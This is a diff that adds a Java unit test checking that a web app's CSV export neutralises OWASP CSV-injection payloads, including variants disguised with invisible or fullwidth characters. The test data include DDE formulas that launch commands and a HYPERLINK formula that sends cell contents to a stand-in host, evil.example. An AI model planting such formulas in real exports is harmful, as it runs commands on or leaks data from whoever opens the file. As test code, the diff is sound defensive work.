@@ -307,6 +307,79 @@ class ExportWebTests {
         .containsOnly("'=cold");
   }
 
+  /**
+   * The cases of OWASP's CSV Injection page
+   * (https://owasp.org/www-community/attacks/CSV_Injection): no cell may begin with =, +, -, @, a
+   * tab or a carriage return, whatever it is preceded by (spaces, invisible characters) or written
+   * as (fullwidth signs); and a separator inside a cell (the page names "," and ";") must not let a
+   * spreadsheet start a new cell inside it, so such a cell is quoted. The JSON export still carries
+   * what was typed.
+   */
+  @Test
+  void shouldDefuseTheOwaspCsvInjectionCasesAndTheirDisguises() throws IOException {
+    List<String> owasp =
+        List.of(
+            "=1+1",
+            "+1+1",
+            "-1+1",
+            "@SUM(1+9)",
+            "\t=1+1",
+            "\r=1+1",
+            "=cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"Error: please click\")",
+            "=1+2\";=1+2",
+            "=1+2'\" ;,=1+2");
+    List<String> disguised =
+        List.of(
+            " =1+1",
+            "\u00a0=1+1",
+            "\u200b=1+1",
+            "\ufeff=1+1",
+            "\u2060\u3000 @SUM(1+9)",
+            "\n-1+1",
+            "\uff1d1+1",
+            "\uff0b1+1",
+            "\uff0d1+1",
+            "\uff20SUM(1+9)",
+            "\ufe661+1");
+    List<String> separated = List.of("x;=1+1", "x,=1+1", "x\t=1+1");
+    UUID tester = fixtures.tester("owasp");
+    List<String> typed = new ArrayList<>();
+    typed.addAll(owasp);
+    typed.addAll(disguised);
+    typed.addAll(separated);
+    for (String text : typed) {
+      fixtures.answer(fixtures.submittedSession(playground, tester, "model_b"), anythingElse, text);
+    }
+
+    MockHttpServletResponse download = download(admin, "answers.csv");
+    List<String> cells = new ArrayList<>();
+    for (Map<String, String> row : csv(download).rows()) {
+      if (row.get("tester_email").equals(fixtures.emailOf(tester))) {
+        cells.add(row.get("answer_text"));
+      }
+    }
+    List<String> expected = new ArrayList<>();
+    owasp.forEach(text -> expected.add("'" + text));
+    disguised.forEach(text -> expected.add("'" + text));
+    expected.addAll(separated);
+    assertThat(cells).containsExactlyInAnyOrderElementsOf(expected);
+    String raw = download.getContentAsString(StandardCharsets.UTF_8);
+    assertThat(raw)
+        .as("a cell holding a separator is quoted")
+        .contains(",\"x;=1+1\",", ",\"x,=1+1\",", ",\"x\t=1+1\",", ",\"'=1+2\"\";=1+2\",");
+
+    List<String> json = new ArrayList<>();
+    for (JsonNode row : json(download(admin, "answers.json"))) {
+      if (row.get("tester_email").asString().equals(fixtures.emailOf(tester))) {
+        json.add(row.get("answer_text").asString());
+      }
+    }
+    assertThat(json).containsExactlyInAnyOrderElementsOf(typed);
+  }
+
   // --- sessions -------------------------------------------------------------------------------
 
   @Test
